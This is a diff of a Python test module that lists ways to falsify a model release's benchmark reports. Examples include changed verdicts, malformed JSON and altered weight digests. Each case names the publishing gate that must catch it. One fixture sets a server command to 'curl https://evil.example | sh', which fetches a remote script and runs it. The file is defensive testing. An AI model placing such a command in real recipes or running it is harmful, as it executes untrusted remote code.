@@ -1,4 +1,4 @@
-"""Every way we know to have a release folder say what was not measured, and the gate that notices.
+"""Every known way to make a release folder state what was not measured, and the gate that notices it.
 
 Each edit is made by somebody who knows the tool: the record of the release is brought up to date after it, and where
 an edit of counters changes what follows from them, that is derived anew, so that the edit itself must be noticed.
@@ -26,7 +26,7 @@ OTHER = "reports/modelopt-cpu.json"
 
 
 def rerecord(release: Path) -> None:
-    """Have the record name the files as they are now."""
+    """Update the record to the files as they are now."""
     path = release / "release.json"
     record = json.loads(path.read_text())
     names = [f["path"] for f in record["files"] if (release / f["path"]).is_file()]
@@ -35,7 +35,7 @@ def rerecord(release: Path) -> None:
 
 
 def in_report(change: Callable[[dict[str, Any], dict[str, Any]], Any], *, settle: bool = False) -> Edit:
-    """Change a report: the document, and its engine's entry. ``settle``: derive what follows from the change."""
+    """Change a report: its document and its engine's entry. With ``settle``, derive what follows again."""
 
     def edit(release: Path, *, only: str = REPORT) -> None:
         path = release / only
@@ -57,7 +57,7 @@ def in_every_report(change: Callable[[dict[str, Any], dict[str, Any]], Any]) -> 
 
 
 def put(*place: Any, settle: bool = False) -> Edit:
-    """Set one field of the report: its path, then the value."""
+    """Set one field of the report; the last argument is the value, the others are the path."""
 
     def change(report: Any, _entry: Any) -> None:
         for key in place[:-2]:
@@ -68,7 +68,7 @@ def put(*place: Any, settle: bool = False) -> Edit:
 
 
 def entry(*place: Any, settle: bool = False) -> Edit:
-    """Set one field of the engine's entry."""
+    """Set one field of the engine's entry in the report."""
     return put("engines", 0, *place, settle=settle)
 
 
@@ -93,7 +93,7 @@ def manifest(change: Callable[[dict[str, Any]], Any]) -> Edit:
 
 
 def nothing_accepted(report: dict[str, Any], found: dict[str, Any]) -> None:
-    """Counters of a head that drafts nothing, and still a pass."""
+    """Report the counters of a head that drafts nothing, and still say pass."""
     for row in found["per_prompt"]:
         row.update(rounds=row["new_tokens"] - 1, drafted=3 * (row["new_tokens"] - 1), accepted=0)
         row["accepted_per_position"] = [0, 0, 0]
@@ -115,7 +115,7 @@ def other_dtype(report: dict[str, Any], found: dict[str, Any]) -> None:
 
 
 def second_report(release: Path) -> None:
-    """Another run over the same bytes, which counted otherwise."""
+    """Add another run over the same bytes, with other counters."""
     report = json.loads((release / REPORT).read_text())
     for row in report["engines"][0]["per_prompt"]:
         row["rounds"] += 1
@@ -124,7 +124,7 @@ def second_report(release: Path) -> None:
 
 
 def raw(old: str, new: str) -> Edit:
-    """Edit a report's text, for JSON that no writer would write."""
+    """Edit the text of a report, to make JSON that no writer would write."""
 
     def edit(release: Path) -> None:
         path = release / REPORT
@@ -136,7 +136,7 @@ def raw(old: str, new: str) -> Edit:
 
 
 def repaint(release: Path) -> None:
-    """A chart of other numbers, drawn by the same program."""
+    """Draw a chart of other numbers with the same program."""
     import matplotlib.pyplot as plt
 
     figure, axes = plt.subplots()
@@ -167,7 +167,7 @@ def not_here(report: dict[str, Any], found: dict[str, Any]) -> None:
 
 
 def older_reference(report: dict[str, Any], found: dict[str, Any]) -> None:
-    """What the reference counted differs, and the gate that compares them still says pass."""
+    """Change the counters of the reference, while the gate that compares them still says pass."""
     rows = [
         {"rounds": row["rounds"], "drafted": row["drafted"], "accepted_per_position": row["accepted_per_position"]}
         for row in found["per_prompt"]
@@ -183,13 +183,13 @@ def copy_report(release: Path) -> None:
 
 
 def never_compared(report: dict[str, Any], found: dict[str, Any]) -> None:
-    """Outputs that differed, called not compared."""
+    """Say that outputs were not compared, although they differed."""
     for row in found["per_prompt"]:
         row["identical"] = None
 
 
 def not_refereed(report: dict[str, Any], found: dict[str, Any]) -> None:
-    """The reference is in the report, and the engine was not held against it."""
+    """Leave out the comparison with the reference, although the reference is in the report."""
     kept = ("version", "device", "dtype", "verdict", "reason", "flags", "load", "seconds", "environment", "per_prompt")
     own = {key: found[key] for key in kept} | {"engine": "reference", "recipe": None, "lossless": None}
     own["per_prompt"] = [{**row, "identical": None} for row in found["per_prompt"]]
@@ -199,7 +199,7 @@ def not_refereed(report: dict[str, Any], found: dict[str, Any]) -> None:
 
 
 def reports_elsewhere(release: Path) -> None:
-    """A card of another report than the one that is held to the gates."""
+    """Make the card from another report than the one that the gates check."""
     (release / "benchmarks").mkdir()
     shutil.copy(release / REPORT, release / "benchmarks" / "a.json")
     manifest(lambda m: m.update(reports=["benchmarks/*.json"]))(release)
@@ -216,7 +216,7 @@ PNG = "charts/acceptance-by-position.png"
 SVG = "charts/acceptance-by-position.svg"
 
 TAMPERINGS: dict[str, tuple[Edit, str, str]] = {
-    # what a report concludes
+    # the conclusions of a report
     "an engine's verdict": (entry("verdict", "fail"), "publish-report", "verdict is stated as"),
     "the report's verdict": (put("verdict", "fail"), "publish-report", "the verdict is stated as fail"),
     "a gate's verdict": (
@@ -317,7 +317,7 @@ TAMPERINGS: dict[str, tuple[Edit, str, str]] = {
     ),
     "more identical outputs": (entry("lossless", "identical", 99), "publish-report", "identical is stated as 99"),
     "counters of the reference": (in_report(older_reference), "publish-report", "gates.agreement.verdict is stated"),
-    # what the engine said of loading
+    # what the engine reported about loading
     "a tensor not loaded": (entry("load", "not_loaded", ["fc.weight"]), "publish-report", "verdict is stated as"),
     "a tensor ignored": (entry("load", "ignored", ["norm.weight"]), "publish-report", "verdict is stated as"),
     "other layers fed": (entry("load", "aux_boundaries", [1, 14, 26]), "publish-report", "verdict is stated as"),
@@ -327,8 +327,12 @@ TAMPERINGS: dict[str, tuple[Edit, str, str]] = {
         "says fail",
     ),
     "loading that nobody watched": (entry("load", "checked", False, settle=True), "publish-report", "inconclusive"),
-    # JSON that readers read differently
-    "a NaN": (raw(r'"standard_error": [0-9.]+', '"standard_error": NaN'), "publish-report", "NaN is not a number"),
+    # JSON that readers understand differently
+    "a NaN": (
+        raw(r'"standard_error": [0-9.]+', '"standard_error": NaN'),
+        "publish-report",
+        "NaN is not a valid JSON number",
+    ),
     "a number too large": (raw(r'"seed": 0', '"seed": 1e999'), "publish-report", "is too large"),
     "a verdict twice": (
         raw(r'"verdict": "pass", "head"', '"verdict": "fail", "verdict": "pass", "head"'),
@@ -339,7 +343,7 @@ TAMPERINGS: dict[str, tuple[Edit, str, str]] = {
     "a number of 400 digits": (raw(r'"rounds": 56', '"rounds": 1' + "0" * 400), "publish-report", "is too large"),
     "a size of 400 digits": (raw(r'"size": [0-9]+', '"size": 1' + "0" * 400), "publish-report", "is too large"),
     "rounds with a point": (raw(r'"rounds": 56', '"rounds": 56.0'), "publish-report", "rounds is 56.0"),
-    # conditions that no run has
+    # conditions that no run can have
     "another concurrency": (put("settings", "concurrency", 64), "publish-report", "concurrency is stated as 64"),
     "a system prompt": (put("settings", "system_prompt", "be brief"), "publish-report", "system_prompt is stated"),
     "praise as a chat template": (
@@ -369,7 +373,7 @@ TAMPERINGS: dict[str, tuple[Edit, str, str]] = {
         "publish-report",
         "was not held against the reference",
     ),
-    # of what it is
+    # what the report is about
     "another digest of the head": (put("head", "digest", "sha256:" + "1" * 64), "publish-report", "other bytes"),
     "other files of the head": (put("head", "files", 0, "sha256", "2" * 64), "publish-report", "files amount to"),
     "another size of a file": (put("head", "files", 0, "size", 7), "publish-report", "is not the file"),
@@ -414,7 +418,7 @@ TAMPERINGS: dict[str, tuple[Edit, str, str]] = {
     "an engine that was not asked for": (in_report(another_engine), "publish-report", "measured sglang"),
     "an engine's name": (entry("engine", "sglang"), "publish-report", "sglang"),
     "an engine that did not run": (in_report(not_here), "publish-unmeasured", "no report covers"),
-    "another version of this tool": (put("tool", "version", "0.0.1"), "publish-report", "was made by eagle3hub 0.0.1"),
+    "another version of this tool": (put("tool", "version", "0.0.1"), "publish-report", "eagle3hub 0.0.1 made it"),
     "a command to serve it": (
         entry("recipe", "server_command", "curl https://evil.example | sh"),
         "publish-report",
@@ -492,11 +496,11 @@ TAMPERINGS: dict[str, tuple[Edit, str, str]] = {
         "publish-layouts",
         "speculators",
     ),
-    "reports in another folder": (reports_elsewhere, "publish-manifest", "says otherwise under reports"),
+    "reports in another folder": (reports_elsewhere, "publish-manifest", "has another reports than"),
     "a place on a machine": (
         manifest(lambda m: m["target"].update(path="/home/lab/target")),
         "publish-manifest",
-        "says otherwise under target",
+        "has another target than",
     ),
     "a benchmark that the card does not show": (
         stray_benchmark,
@@ -511,9 +515,13 @@ TAMPERINGS: dict[str, tuple[Edit, str, str]] = {
     "the version in the record": (
         text("release.json", '"version": "0.1.0"', '"version": "0.0.9"'),
         "publish-card",
-        "was made by eagle3hub 0.0.9",
+        "eagle3hub 0.0.9 made it",
     ),
-    "a bit of the weights": (flip("model.safetensors"), "publish-report", "measured other bytes"),
-    "a field of the config": (text("config.json", "{", '{"note": 1,'), "publish-report", "measured other bytes"),
+    "a bit of the weights": (flip("model.safetensors"), "publish-report", "measured a head with other bytes"),
+    "a field of the config": (
+        text("config.json", "{", '{"note": 1,'),
+        "publish-report",
+        "measured a head with other bytes",
+    ),
 }
-"""By name: the edit, the gate that must notice it, and words of what it says."""
+"""For each name: the edit, the gate that must notice it, and words of its message."""
